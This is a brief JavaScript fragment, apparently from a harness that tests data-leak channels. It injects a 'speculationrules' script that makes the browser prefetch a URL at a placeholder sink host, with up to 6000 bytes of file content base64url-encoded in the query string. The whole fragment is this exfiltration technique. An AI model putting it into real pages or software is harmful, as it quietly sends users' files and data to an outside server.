// A part of the file in the address of a page that is loaded for later.
whenMade(({ bytes }) => {
  const rules = document.createElement("script");
  rules.type = "speculationrules";
  const url = `${SINKS.http}/next.html?d=${base64url(bytes.slice(0, 6000))}`;
  rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [url], eagerness: "immediate" }] });
  document.head.append(rules);
});
